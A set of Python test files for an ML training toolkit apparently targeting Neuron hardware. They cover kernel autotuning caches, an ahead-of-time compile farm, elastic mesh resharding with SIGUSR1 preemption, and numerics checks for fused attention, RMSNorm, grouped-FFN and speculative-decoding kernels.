    r2 = at.autotune("attention_nki", ATTN_SHAPE, "float32", fast=True,
                     workers=0, iters=2)
    assert r2["cached"] and r2["recompiles"] == 0
    assert r2["config"] == r1["config"]

    # a different shape is a different key: tunes fresh
    r3 = at.autotune("rmsnorm_nki", RMS_SHAPE, "float32", fast=True,
                     workers=0, iters=2)
    assert not r3["cached"]
    entries = at.load_cache()
    assert len(entries) == 2


def test_autotune_force_retunes(scratch_cache):
    at.autotune("rmsnorm_nki", RMS_SHAPE, "float32", fast=True, workers=0,
                iters=2)
    r = at.autotune("rmsnorm_nki", RMS_SHAPE, "float32", fast=True,
                    workers=0, iters=2, force=True)
    assert not r["cached"] and r["recompiles"] > 0


def test_consult_miss_disable_and_corrupt_cache(scratch_cache, monkeypatch):
    assert at.consult("attention_nki", ATTN_SHAPE, "float32") is None
    at.autotune("attention_nki", ATTN_SHAPE, "float32", fast=True, workers=0,
                iters=2)
    assert at.consult("attention_nki", ATTN_SHAPE, "float32") is not None
    # KO_AUTOTUNE=0 pins the hand-tuned fallback
    monkeypatch.setenv("KO_AUTOTUNE", "0")
    assert at.consult("attention_nki", ATTN_SHAPE, "float32") is None
    monkeypatch.delenv("KO_AUTOTUNE")
    # a corrupt cache file is a silent miss, never an exception
    with open(scratch_cache, "w") as f:
        f.write("{ not json")
    assert at.consult("attention_nki", ATTN_SHAPE, "float32") is None


def test_consult_plan_tag_fallback(scratch_cache, monkeypatch):
    at.record_best("attention_nki", ATTN_SHAPE, "float32", "default",
                   {"config": {"tile": 64}, "mean_ms": 1.0})
    # under a bench plan with no plan-specific entry, "default" answers
    monkeypatch.setenv("KO_BENCH_PLAN", "8,1,1,1,1")
    assert at.consult("attention_nki", ATTN_SHAPE, "float32") == {"tile": 64}
    # a plan-specific entry wins over "default"
    at.record_best("attention_nki", ATTN_SHAPE, "float32", "8,1,1,1,1",
                   {"config": {"tile": 32}, "mean_ms": 0.5})
    assert at.consult("attention_nki", ATTN_SHAPE, "float32") == {"tile": 32}


def test_failed_candidates_keep_hand_tuned(scratch_cache, monkeypatch):
    # every candidate failing must record nothing and leave consult a miss
    monkeypatch.setattr(at, "_candidate_callable",
                        lambda job: (_ for _ in ()).throw(RuntimeError("ICE")))
    r = at.autotune("attention_nki", ATTN_SHAPE, "float32", fast=True,
                    workers=0, iters=1)
    assert r["config"] is None and len(r["failed"]) == 2
    assert at.consult("attention_nki", ATTN_SHAPE, "float32") is None


# -- trace-time consult in the kernels ---------------------------------


def test_fused_attention_consults_cache_with_parity(scratch_cache):
    from kubeoperator_trn.kernels.attention_nki import (
        _consult_tile,
        fused_causal_attention,
    )
    from kubeoperator_trn.ops.attention import blockwise_causal_attention

    b, s, h, kv, d = ATTN_SHAPE
    q = jax.random.normal(jax.random.key(0), (b, s, h, d), jnp.float32)
    k = jax.random.normal(jax.random.key(1), (b, s, kv, d), jnp.float32)
    v = jax.random.normal(jax.random.key(2), (b, s, kv, d), jnp.float32)

    # no cache entry: hand-tuned fallback
    assert _consult_tile(q, k, 128) == 128

    at.record_best("attention_nki", ATTN_SHAPE, "float32", "default",
                   {"config": {"tile": 32, "acc": "float32"}, "mean_ms": 0.1})
    assert _consult_tile(q, k, 128) == 32

    # an illegal cached tile (does not divide S) falls back
    at.record_best("attention_nki", ATTN_SHAPE, "float32", "default",
                   {"config": {"tile": 96}, "mean_ms": 0.1})
    assert _consult_tile(q, k, 128) == 128

    # numerics parity: the consulted tile changes the schedule, not the math
    at.record_best("attention_nki", ATTN_SHAPE, "float32", "default",
                   {"config": {"tile": 32}, "mean_ms": 0.1})
    tuned = fused_causal_attention(q, k, v)
    ref = blockwise_causal_attention(q, k, v, block_size=128)
    assert float(jnp.max(jnp.abs(tuned - ref))) < 1e-4


def test_rmsnorm_candidate_forward_parity():
    from kubeoperator_trn.kernels.rmsnorm_nki import candidate_forward
    from kubeoperator_trn.ops.norms import rms_norm

    x = jax.random.normal(jax.random.key(0), RMS_SHAPE, jnp.float32)
    g = jax.random.normal(jax.random.key(1), (RMS_SHAPE[1],), jnp.float32)
    for cfg in at.generate_candidates("rmsnorm_nki", RMS_SHAPE, "float32"):
        y = candidate_forward(cfg)(x, g)
        assert float(jnp.max(jnp.abs(y - rms_norm(x, g)))) < 1e-5


def test_attention_candidate_forward_parity():
    from kubeoperator_trn.kernels.attention_nki import candidate_forward
    from kubeoperator_trn.ops.attention import blockwise_causal_attention

    b, s, h, kv, d = ATTN_SHAPE
    q = jax.random.normal(jax.random.key(0), (b, s, h, d), jnp.float32)
    k = jax.random.normal(jax.random.key(1), (b, s, kv, d), jnp.float32)
    v = jax.random.normal(jax.random.key(2), (b, s, kv, d), jnp.float32)
    ref = blockwise_causal_attention(q, k, v, block_size=128)
    for cfg in at.generate_candidates("attention_nki", ATTN_SHAPE, "float32"):
        y = candidate_forward(cfg)(q, k, v)
        tol = 5e-2 if cfg["acc"] == "bfloat16" else 1e-4
        assert float(jnp.max(jnp.abs(y - ref))) < tol, cfg


# -- AOT compile farm ---------------------------------------------------


def test_compile_farm_publish_then_hit_and_warm(tmp_path, monkeypatch):
    from kubeoperator_trn.cluster import compile_farm as cf
    from kubeoperator_trn.cluster.offline_repo import ArtifactStore

    monkeypatch.setenv("KO_AUTOTUNE_CACHE",
                       str(tmp_path / "farm_best.json"))
    mirror = str(tmp_path / "mirror")
    jobs = cf.template_shape_jobs(fast=True)
    assert jobs and all(j["kernel"] in ("attention_nki", "rmsnorm_nki")
                        for j in jobs)

    r1 = cf.run_aot_compile(mirror_root=mirror, fast=True, workers=0)
    assert not r1["errors"] and r1["published"] and r1["recompiles"] > 0

    # second farm run: pure hits, zero recompiles
    r2 = cf.run_aot_compile(mirror_root=mirror, fast=True, workers=0)
    assert not r2["published"] and len(r2["hits"]) == len(jobs)
    assert r2["recompiles"] == 0

    # node-join warm into a fresh autotune cache merges best-configs
    monkeypatch.setenv("KO_AUTOTUNE_CACHE",
                       str(tmp_path / "node_best.json"))
    w = cf.warm_node_cache(mirror_root=mirror,
                           cache_dir=str(tmp_path / "ncc"))
    assert w["installed"] and not w["corrupt"]
    assert w["best_configs_merged"] == len(jobs)
    assert at.load_cache()

    # store survives an integrity sweep
    assert not ArtifactStore(mirror).verify()["corrupt"]


def test_engine_runs_precompile_and_warm_phases(tmp_path, monkeypatch):
    from kubeoperator_trn.cluster.db import DB
    from kubeoperator_trn.cluster.runner import FakeRunner
    from kubeoperator_trn.cluster.service import (
        ClusterService,
        NEURON_PHASES,
    )
    from kubeoperator_trn.cluster.taskengine import TaskEngine

    assert "warm-compile-cache" in NEURON_PHASES

    monkeypatch.setenv("KO_PROBE_FAST", "1")
    monkeypatch.setenv("KO_AUTOTUNE_CACHE", str(tmp_path / "best.json"))
    mirror = str(tmp_path / "mirror")
    db = DB(":memory:")
    engine = TaskEngine(db, FakeRunner(), workers=1)
    try:
        svc = ClusterService(db, engine)
        cluster = {"id": "c1", "name": "t", "spec": {"neuron": True},
                   "nodes": [], "status": "Running"}
        db.put("clusters", "c1", cluster)
        task = svc.precompile(cluster, mirror_root=mirror)

        deadline = time.time() + 120
        while time.time() < deadline:
            doc = db.get("tasks", task["id"])
            if doc["status"] in ("Success", "Failed"):
                break
            time.sleep(0.1)
        assert doc["status"] == "Success", doc
        assert os.path.isdir(os.path.join(mirror, "cas"))

        # warm-compile-cache builtin: ok no-op on an empty mirror, real
        # install once the store exists
        from kubeoperator_trn.cluster.compile_farm import BUILTIN_PHASES

        empty = BUILTIN_PHASES["warm-compile-cache"](
            cluster, {}, {"mirror_root": str(tmp_path / "nowhere")},
            lambda *_: None)
        assert empty.ok and "cold start" in empty.summary
        warm = BUILTIN_PHASES["warm-compile-cache"](
            cluster, {},
            {"mirror_root": mirror, "cache_dir": str(tmp_path / "ncc")},
            lambda *_: None)
        assert warm.ok and "installed" in warm.summary
    finally:
        engine.shutdown()


# -- probe + sweep wiring (tier-1-safe fast loop) ------------------------


def test_autotune_probe_fast_subprocess(tmp_path):
    env = dict(os.environ, KO_PROBE_FAST="1", JAX_PLATFORMS="cpu",
               KO_AUTOTUNE_CACHE=str(tmp_path / "best.json"),
               KO_TELEMETRY_DIR=str(tmp_path))
    proc = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "autotune_probe.py"),
         "--drill", "warm"],
        env=env, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    row = json.loads(proc.stdout.strip().splitlines()[-1])
    assert row["metric"] == "autotune_probe" and row["value"] == 0


@pytest.mark.slow
def test_autotune_probe_loop_subprocess(tmp_path):
    """The full acceptance drill (cold sweep -> cached rerun -> consult
    -> CAS round-trip) as a subprocess — the sweep row's exact command."""
    env = dict(os.environ, KO_PROBE_FAST="1", JAX_PLATFORMS="cpu",
               KO_AUTOTUNE_CACHE=str(tmp_path / "best.json"),
               KO_TELEMETRY_DIR=str(tmp_path))
    proc = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "autotune_probe.py")],
        env=env, cwd=REPO, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    row = json.loads(proc.stdout.strip().splitlines()[-1])
    assert row["value"] == 0 and not row["detail"]["failed"]


@pytest.mark.slow
def test_autotune_exhaustive_candidate_sweep(tmp_path, monkeypatch):
    """Full (non-fast) candidate set through the parallel pool."""
    monkeypatch.setenv("KO_AUTOTUNE_CACHE", str(tmp_path / "best.json"))
    r = at.autotune("attention_nki", ATTN_SHAPE, "float32", fast=False,
                    workers=2, iters=3)
    assert r["config"] and not r["failed"]
    assert r["candidates"] == len(
        at.generate_candidates("attention_nki", ATTN_SHAPE, "float32"))


@pytest.mark.slow
def test_grouped_ffn_exhaustive_candidate_sweep(tmp_path, monkeypatch):
    """Full grouped-FFN candidate set (every legal rows × acc) through
    the parallel pool — CI runs only the fast 2-candidate subset."""
    monkeypatch.setenv("KO_AUTOTUNE_CACHE", str(tmp_path / "best.json"))
    r = at.autotune("grouped_ffn_nki", GFFN_SHAPE, "float32", fast=False,
                    workers=2, iters=3)
    assert r["config"] and not r["failed"]
    assert r["candidates"] == len(
        at.generate_candidates("grouped_ffn_nki", GFFN_SHAPE, "float32"))
    assert at.consult("grouped_ffn_nki", GFFN_SHAPE, "float32") is not None


# -- bench neff-log fold -------------------------------------------------


def test_logfold_counts_and_forwards(tmp_path):
    from kubeoperator_trn.utils.neff_log import LogFold

    out_path = tmp_path / "sink.log"
    sink = os.open(str(out_path), os.O_WRONLY | os.O_CREAT)
    try:
        fold = LogFold(sink_fd=sink)
        os.write(fold.write_fd, b"bench: real signal line\n")
        os.write(fold.write_fd,
                 b"Using a cached neff at /var/tmp/cache/mod1.neff\n")
        os.write(fold.write_fd, b".....Compiler status PASS\n")
        os.write(fold.write_fd,
                 b"Using a cached neff at /var/tmp/cache/mod2.neff\n")
        os.write(fold.write_fd, b"another passthrough\n")
        hits, compiles = fold.close()
    finally:
        os.close(sink)
    assert (hits, compiles) == (2, 1)
    text = out_path.read_text()
    assert "real signal line" in text and "another passthrough" in text
    assert "cached neff" not in text and "Compiler status" not in text


def test_bench_profile_overlay(monkeypatch):
    import bench

    for key in bench.PROFILES["tuned"]:
        monkeypatch.delenv(key, raising=False)
    monkeypatch.delenv("KO_BENCH_PROFILE", raising=False)
    name, applied = bench.resolve_profile(["--profile", "tuned"])
    assert name == "tuned"
    assert applied["KO_STEPS_PER_CALL"] == "8"
    assert os.environ["KO_BENCH_ATTN"] == "nki"

    # explicit env wins over the overlay
    monkeypatch.setenv("KO_STEPS_PER_CALL", "2")
    name, applied = bench.resolve_profile(["--profile=tuned"])
    assert "KO_STEPS_PER_CALL" not in applied
    assert os.environ["KO_STEPS_PER_CALL"] == "2"

    with pytest.raises(SystemExit):
        bench.resolve_profile(["--profile", "nope"])
