"""Elastic resize (ISSUE 7): mesh re-factorization, resharded restore
with bitwise parity in both directions, and the SIGUSR1 preempted-exit
contract end-to-end through launch.py."""

import os
import signal
import subprocess
import sys
import time

import jax
import numpy as np

from kubeoperator_trn.exitcodes import (
    DEFAULT_EXIT_PREEMPTED,
    resolve_exit_preempted,
)
from kubeoperator_trn.models import llama
from kubeoperator_trn.parallel.mesh import MeshPlan
from kubeoperator_trn.train import elastic
from kubeoperator_trn.train.checkpoint import save_checkpoint
from kubeoperator_trn.train.optim import AdamWConfig, adamw_init
from kubeoperator_trn.train.train_step import TrainStepConfig


# -- exit-code contract -------------------------------------------------


def test_resolve_exit_preempted(monkeypatch):
    monkeypatch.delenv("KO_EXIT_PREEMPTED", raising=False)
    assert resolve_exit_preempted() == DEFAULT_EXIT_PREEMPTED == 75
    monkeypatch.setenv("KO_EXIT_PREEMPTED", "99")
    assert resolve_exit_preempted() == 99
    # junk and shell/signal-colliding values fall back to the default
    for bad in ("junk", "0", "126", "200", "-3"):
        monkeypatch.setenv("KO_EXIT_PREEMPTED", bad)
        assert resolve_exit_preempted() == 75


def test_exitcodes_importable_without_jax():
    """The ops plane (doctor, taskengine) reads the rc without paying
    the jax import — the contract module must stay jax-free."""
    code = ("import sys; from kubeoperator_trn.exitcodes import "
            "resolve_exit_preempted; assert resolve_exit_preempted() == 75; "
            "assert 'jax' not in sys.modules")
    res = subprocess.run([sys.executable, "-c", code], capture_output=True,
                         text=True, timeout=60)
    assert res.returncode == 0, res.stderr[-2000:]


# -- plan re-factorization ---------------------------------------------


def test_elastic_plan_refactors_world_size():
    assert elastic.elastic_plan(8) == MeshPlan(dp=1, fsdp=8)
    assert elastic.elastic_plan(4) == MeshPlan(dp=1, fsdp=4)
    assert elastic.elastic_plan(1) == MeshPlan(dp=1, fsdp=1)


def test_elastic_plan_preserves_tp_sp_when_divisible():
    base = MeshPlan(dp=1, fsdp=4, sp=1, tp=2)
    got = elastic.elastic_plan(4, base=base)
    assert got.tp == 2 and got.n_devices == 4
    # tp no longer divides the survivors -> dropped, not crashed
    got = elastic.elastic_plan(3, base=base)
    assert got.tp == 1 and got.n_devices == 3


def test_elastic_plan_folds_pp():
    base = MeshPlan(dp=1, fsdp=2, pp=2)
    got = elastic.elastic_plan(8, base=base)
    assert got.pp == 1 and got.n_devices == 8


# -- resharded restore parity ------------------------------------------


def _tiny_cfg(plan):
    return TrainStepConfig(model=llama.PRESETS["llama3_tiny"],
                           optim=AdamWConfig(total_steps=100), plan=plan)


def test_reshard_parity_both_directions(tmp_path):
    """fsdp8 -> fsdp4 (shrink) and fsdp4 -> fsdp8 (grow) restores are
    bitwise-equal to the host arrays the checkpoint holds."""
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(3))
    state = {"params": params, "opt": adamw_init(params)}
    save_checkpoint(str(tmp_path), 5, state, keep=0)

    # shrink: written (implicitly) at 8, restored onto 4 survivors
    s4, manifest, mesh4, plan4 = elastic.elastic_restore(
        str(tmp_path), _tiny_cfg(MeshPlan(dp=1, fsdp=8)), n_devices=4)
    assert manifest["step"] == 5
    assert plan4 == MeshPlan(dp=1, fsdp=4)
    assert mesh4.devices.size == 4
    elastic.assert_state_parity(s4, state)

    # grow: the 4-device state re-saved, restored onto 8
    save_checkpoint(str(tmp_path), 6, s4, keep=0)
    s8, manifest, mesh8, plan8 = elastic.elastic_restore(
        str(tmp_path), _tiny_cfg(MeshPlan(dp=1, fsdp=4)), n_devices=8)
    assert manifest["step"] == 6
    assert plan8 == MeshPlan(dp=1, fsdp=8)
    elastic.assert_state_parity(s8, state)
    # the restored leaves actually live under the new factorization
    leaf = s8["params"]["embed"]
    assert leaf.sharding.mesh.devices.size == 8


def test_state_parity_diff_detects_drift(tmp_path):
    cfg = llama.PRESETS["llama3_tiny"]
    params = llama.init_params(cfg, jax.random.key(0))
    a = {"params": params}
    b = {"params": dict(params)}
    b["params"]["embed"] = np.asarray(b["params"]["embed"]) + 1e-7
    bad = elastic.state_parity_diff(a, b)
    assert any("embed" in k for k in bad)
    assert elastic.state_parity_diff(a, a) == []


# -- SIGUSR1 preempted-exit through launch.py --------------------------


def _spawn_launch(tmp_path):
    env = dict(os.environ)
    env.update({
        "JAX_PLATFORMS": "cpu",
        "KO_PRESET": "llama3_tiny",
        "KO_MESH_PLAN": "1,4,1,1,1",
        "KO_SEQ_LEN": "32",
        "KO_GLOBAL_BATCH": "8",
        "KO_STEPS": "48",
        "KO_STEPS_PER_CALL": "4",
        "KO_CHECKPOINT_DIR": str(tmp_path / "ckpt"),
        "KO_CHECKPOINT_EVERY": "8",
        "KO_LR": "1e-3",
        "KO_WARMUP": "2",
    })
    code = (
        "import os; os.environ['XLA_FLAGS']=os.environ.get('XLA_FLAGS','')"
        "+' --xla_force_host_platform_device_count=8';"
        "import jax; jax.config.update('jax_platforms','cpu');"
        "import sys; sys.argv=['launch'];"
        "from kubeoperator_trn.launch import main; main()"
    )
    repo = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    return subprocess.Popen([sys.executable, "-c", code], env=env, cwd=repo,
                            stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)


def test_sigusr1_checkpoints_and_exits_preempted(tmp_path):
    """SIGUSR1 mid-run: checkpoint at the next window boundary, exit
    KO_EXIT_PREEMPTED, and the next run resumes within one window of
    where the signal landed."""
    proc = _spawn_launch(tmp_path)
    lines = []
    sig_step = None
    deadline = time.time() + 540
    try:
        while time.time() < deadline:
            line = proc.stdout.readline()
            if not line:
                if proc.poll() is not None:
                    break
                continue
            lines.append(line.rstrip("\n"))
            if lines[-1].startswith("checkpoint @ ") and sig_step is None:
                sig_step = int(lines[-1].split("@")[1].strip())
                proc.send_signal(signal.SIGUSR1)
        out, _ = proc.communicate(timeout=60)
        lines.extend(out.splitlines())
    finally:
        if proc.poll() is None:
            proc.kill()
    assert sig_step is not None, "\n".join(lines[-10:])
    assert proc.returncode == resolve_exit_preempted(), (
        proc.returncode, "\n".join(lines[-10:]))
    pre = [l for l in lines if "preempted (SIGUSR1)" in l]
    assert pre, "\n".join(lines[-10:])
    stop = int(pre[-1].split("checkpoint @")[1].split(",")[0].strip())
    # <= one window past the boundary where the signal landed
    assert stop % 4 == 0 and sig_step <= stop <= sig_step + 4, (sig_step, stop)

    proc2 = _spawn_launch(tmp_path)
    out2, _ = proc2.communicate(timeout=540)
    assert proc2.returncode == 0, out2[-2000:]
    assert f"resumed from step {stop}" in out2, out2[-2000:]
