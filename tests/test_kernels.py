"""BASS kernel numerics (CPU simulator path)."""

import pytest

from kubeoperator_trn.kernels import bass_available

pytestmark = pytest.mark.skipif(not bass_available(), reason="concourse not present")


def test_bass_rmsnorm_matches_xla():
    import jax
    import jax.numpy as jnp
    import numpy as np
    from kubeoperator_trn.kernels.rmsnorm_bass import rms_norm_bass
    from kubeoperator_trn.ops import rms_norm

    x = jax.random.normal(jax.random.key(0), (2, 64, 256))
    g = jax.random.normal(jax.random.key(1), (256,)) * 0.1 + 1.0
    want = rms_norm(x, g)
    got = rms_norm_bass(x, g)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-4, atol=2e-4)


def test_bass_rmsnorm_pads_ragged_rows():
    import jax
    import jax.numpy as jnp
    import numpy as np
    from kubeoperator_trn.kernels.rmsnorm_bass import rms_norm_bass
    from kubeoperator_trn.ops import rms_norm

    x = jax.random.normal(jax.random.key(2), (3, 50, 128))  # 150 rows: pad to 256
    g = jnp.ones((128,))
    got = rms_norm_bass(x, g)
    want = rms_norm(x, g)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=2e-4, atol=2e-4)


def test_nki_rmsnorm_fallback_numerics_and_grad():
    """CPU path of the fused kernel: forward equals the XLA rms_norm
    and the custom_vjp backward matches autodiff of the XLA op."""
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.kernels.rmsnorm_nki import rms_norm_fused
    from kubeoperator_trn.ops.norms import rms_norm

    x = jax.random.normal(jax.random.key(0), (4, 6, 64), jnp.float32)
    g = jax.random.normal(jax.random.key(1), (64,), jnp.float32)

    y1 = rms_norm(x, g)
    y2 = rms_norm_fused(x, g)
    assert jnp.max(jnp.abs(y1 - y2)) < 1e-6

    def loss_ref(x, g):
        return jnp.sum(jnp.sin(rms_norm(x, g)))

    def loss_fused(x, g):
        return jnp.sum(jnp.sin(rms_norm_fused(x, g)))

    gx1, gg1 = jax.grad(loss_ref, argnums=(0, 1))(x, g)
    gx2, gg2 = jax.grad(loss_fused, argnums=(0, 1))(x, g)
    assert jnp.max(jnp.abs(gx1 - gx2)) < 1e-5, float(jnp.max(jnp.abs(gx1 - gx2)))
    assert jnp.max(jnp.abs(gg1 - gg2)) < 1e-5, float(jnp.max(jnp.abs(gg1 - gg2)))


def test_fused_rmsnorm_flag_in_train_step():
    """fused_rmsnorm=True trains on the CPU fallback (loss finite and
    matching the unfused config step-for-step)."""
    import jax
    import jax.numpy as jnp
    from dataclasses import replace

    from kubeoperator_trn.models import llama

    cfg0 = replace(llama.PRESETS["llama3_tiny"], compute_dtype="float32")
    cfg1 = replace(cfg0, fused_rmsnorm=True)
    params = llama.init_params(cfg0, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 33), 0, cfg0.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    l0 = llama.loss_fn(cfg0, params, batch)
    l1 = llama.loss_fn(cfg1, params, batch)
    assert abs(float(l0) - float(l1)) < 1e-6
    g0 = jax.grad(lambda p: llama.loss_fn(cfg0, p, batch))(params)
    g1 = jax.grad(lambda p: llama.loss_fn(cfg1, p, batch))(params)
    diffs = jax.tree_util.tree_map(
        lambda a, b: float(jnp.max(jnp.abs(a - b))), g0, g1)
    assert max(jax.tree_util.tree_leaves(diffs)) < 1e-5


def test_moe_honors_fused_rmsnorm_flag():
    import jax
    import jax.numpy as jnp
    from dataclasses import replace

    from kubeoperator_trn.models import moe

    cfg0 = replace(moe.MOE_PRESETS["moe_tiny"], compute_dtype="float32")
    cfg1 = replace(cfg0, fused_rmsnorm=True)
    params = moe.init_params(cfg0, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 17), 0, cfg0.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    l0 = moe.loss_fn(cfg0, params, batch)
    l1 = moe.loss_fn(cfg1, params, batch)
    assert abs(float(l0) - float(l1)) < 1e-6


def test_nki_rmsnorm_eps_respected_on_fallback():
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.kernels.rmsnorm_nki import rms_norm_fused
    from kubeoperator_trn.ops.norms import rms_norm

    x = jax.random.normal(jax.random.key(0), (8, 32), jnp.float32) * 1e-3
    g = jnp.ones((32,))
    for eps in (1e-5, 1e-2):
        a = rms_norm(x, g, eps)
        b = rms_norm_fused(x, g, eps)
        assert jnp.max(jnp.abs(a - b)) < 1e-6
    # different eps must give different outputs (the arg is live)
    assert jnp.max(jnp.abs(rms_norm_fused(x, g, 1e-5)
                           - rms_norm_fused(x, g, 1e-2))) > 1e-4


def test_nki_rmsnorm_kernel_simulation_numerics():
    """The NKI kernel body itself (not the XLA fallback) is validated on
    CPU via nki simulation — guards against regressions like the
    nl.rms_norm private-kernel import this image cannot satisfy."""
    import numpy as np
    from neuronxcc import nki

    from kubeoperator_trn.kernels.rmsnorm_nki import _nki_kernel_fn

    eps = 1e-5
    rng = np.random.default_rng(0)
    x = rng.standard_normal((256, 64), dtype=np.float32)
    g = rng.standard_normal((1, 64), dtype=np.float32)
    out = np.zeros_like(x)
    kern = nki.jit(_nki_kernel_fn(eps), mode="simulation", kernel_return=False)
    kern[(2,)](x, g, out)
    ref = x / np.sqrt((x ** 2).mean(-1, keepdims=True) + eps) * g
    assert np.abs(out - ref).max() < 1e-5


def test_grouped_ffn_fallback_numerics_and_grad():
    """CPU path of the fused grouped-expert FFN: forward equals the
    einsum reference chain and the custom_vjp backward matches autodiff
    of that chain (recompute-in-backward residual discipline)."""
    import jax
    import jax.numpy as jnp

    from kubeoperator_trn.kernels.grouped_ffn_nki import (
        grouped_ffn, grouped_ffn_fused)

    e, c, d, f = 4, 16, 32, 48
    ks = jax.random.split(jax.random.key(0), 4)
    x = jax.random.normal(ks[0], (e, c, d), jnp.float32)
    wg = jax.random.normal(ks[1], (e, d, f), jnp.float32) * 0.1
    wu = jax.random.normal(ks[2], (e, d, f), jnp.float32) * 0.1
    wd = jax.random.normal(ks[3], (e, f, d), jnp.float32) * 0.1

    y1 = grouped_ffn(x, wg, wu, wd)
    y2 = grouped_ffn_fused(x, wg, wu, wd)
    y3 = grouped_ffn_fused(x, wg, wu, wd, partitioned=False)
    assert jnp.max(jnp.abs(y1 - y2)) < 1e-6
    assert jnp.max(jnp.abs(y1 - y3)) < 1e-6

    def loss(fn):
        return lambda *a: jnp.sum(jnp.sin(fn(*a)))

    g1 = jax.grad(loss(grouped_ffn), argnums=(0, 1, 2, 3))(x, wg, wu, wd)
    g2 = jax.grad(loss(grouped_ffn_fused), argnums=(0, 1, 2, 3))(
        x, wg, wu, wd)
    for a, b in zip(g1, g2):
        assert jnp.max(jnp.abs(a - b)) < 1e-5


def test_nki_grouped_ffn_kernel_simulation_numerics():
    """The grouped-FFN NKI kernel body (not the XLA fallback) validated
    on CPU via nki simulation: per-(expert, row-tile) blocked SwiGLU
    chain with f32 accumulation over the F walk."""
    import numpy as np
    from neuronxcc import nki

    from kubeoperator_trn.kernels.grouped_ffn_nki import _nki_kernel_fn

    e, c, d, f, rows = 2, 64, 32, 48, 32
    rng = np.random.default_rng(0)
    x = rng.standard_normal((e, c, d)).astype(np.float32)
    wg = (rng.standard_normal((e, d, f)) * 0.1).astype(np.float32)
    wu = (rng.standard_normal((e, d, f)) * 0.1).astype(np.float32)
    wd = (rng.standard_normal((e, f, d)) * 0.1).astype(np.float32)
    out = np.zeros_like(x)
    kern = nki.jit(_nki_kernel_fn(c, d, f, rows), mode="simulation",
                   kernel_return=False)
    kern[(e, c // rows)](x, wg, wu, wd, out)

    gate = np.einsum("ecd,edf->ecf", x, wg)
    up = np.einsum("ecd,edf->ecf", x, wu)
    silu = gate / (1.0 + np.exp(-gate))
    ref = np.einsum("ecf,efd->ecd", silu * up, wd)
    assert np.abs(out - ref).max() < 1e-4


def test_nki_attention_kernel_simulation_numerics():
    """The fused attention kernel body (not the blockwise fallback) is
    validated on CPU via nki simulation: causal online-softmax over the
    static tile grid, GQA via the (B*KV, G) grid row mapping."""
    import numpy as np
    from neuronxcc import nki

    from kubeoperator_trn.kernels.attention_nki import (
        _diag_mask, _nki_kernel_fn)

    b, s, h, kv, d = 1, 256, 4, 2, 32
    g = h // kv
    rng = np.random.default_rng(0)
    q = rng.standard_normal((b * h, s, d)).astype(np.float32)
    k = rng.standard_normal((b * kv, s, d)).astype(np.float32)
    v = rng.standard_normal((b * kv, s, d)).astype(np.float32)
    dmask = np.asarray(_diag_mask(), np.float32)
    out = np.zeros_like(q)
    kern = nki.jit(_nki_kernel_fn(s, d, g), mode="simulation",
                   kernel_return=False)
    kern[(b * kv, g)](q, k, v, dmask, out)

    # numpy dense causal GQA reference over the flattened-head layout
    mask = np.tril(np.ones((s, s), bool))
    for row in range(b * h):
        krow = row // g  # grid mapping: q row pid0*g + pid1 -> kv row pid0
        scores = (q[row] / np.sqrt(d)) @ k[krow].T
        scores = np.where(mask, scores, -1e30)
        p = np.exp(scores - scores.max(-1, keepdims=True))
        p /= p.sum(-1, keepdims=True)
        ref = p @ v[krow]
        assert np.abs(out[row] - ref).max() < 1e-4, row


def test_bass_spec_verify_matches_jax_ref():
    """spec_verify_bass vs ops.spec_accept_ref on crafted + random
    inputs, across vocab-tile widths that do and don't divide V —
    accept lengths and bonus ids must agree exactly (greedy commit
    streams are bitwise-compared downstream)."""
    import numpy as np

    from kubeoperator_trn.kernels.spec_verify_bass import spec_accept_bass
    from kubeoperator_trn.ops.specdec import PAD_ID, spec_accept_ref

    s, k1, v = 6, 5, 777
    rng = np.random.default_rng(3)
    logits = rng.standard_normal((s, k1, v)).astype(np.float32)
    greedy = np.argmax(logits, axis=-1).astype(np.int32)
    draft = np.full((s, k1), PAD_ID, np.int32)
    draft[0, :4] = greedy[0, :4]          # full accept
    draft[1, :4] = greedy[1, :4]
    draft[1, 2] = (greedy[1, 2] + 1) % v  # mismatch mid-draft
    draft[2, 0] = (greedy[2, 0] + 1) % v  # immediate reject
    draft[3, :2] = greedy[3, :2]          # short draft, PAD tail
    # rows 4..5: random drafts
    draft[4, :4] = rng.integers(0, v, 4)
    draft[5, :4] = rng.integers(0, v, 4)

    want_a, want_b = spec_accept_ref(logits, draft)
    for vt in (v, 256, 64):               # single tile / ragged tiling
        got_a, got_b = spec_accept_bass(logits, draft, vt=vt)
        np.testing.assert_array_equal(np.asarray(got_a),
                                      np.asarray(want_a), err_msg=f"vt={vt}")
        np.testing.assert_array_equal(np.asarray(got_b),
                                      np.asarray(want_b), err_msg=f"vt={vt}")


def test_bass_spec_verify_tie_breaks_to_lowest_index():
    """Duplicate maxima within one vocab tile AND across tile
    boundaries must resolve to the lowest vocab id, matching
    jnp.argmax — otherwise the two impls commit different streams."""
    import numpy as np

    from kubeoperator_trn.kernels.spec_verify_bass import spec_accept_bass
    from kubeoperator_trn.ops.specdec import PAD_ID, spec_accept_ref

    s, k1, v = 2, 3, 512
    logits = np.zeros((s, k1, v), np.float32)
    logits[0, :, 10] = 7.0
    logits[0, :, 300] = 7.0   # same tile at vt=512, later tile at vt=256
    logits[1, :, 100] = 7.0
    logits[1, :, 101] = 7.0   # adjacent duplicate, same tile
    draft = np.full((s, k1), PAD_ID, np.int32)
    draft[0, 0] = 10
    draft[1, 0] = 101         # higher-index duplicate must NOT match

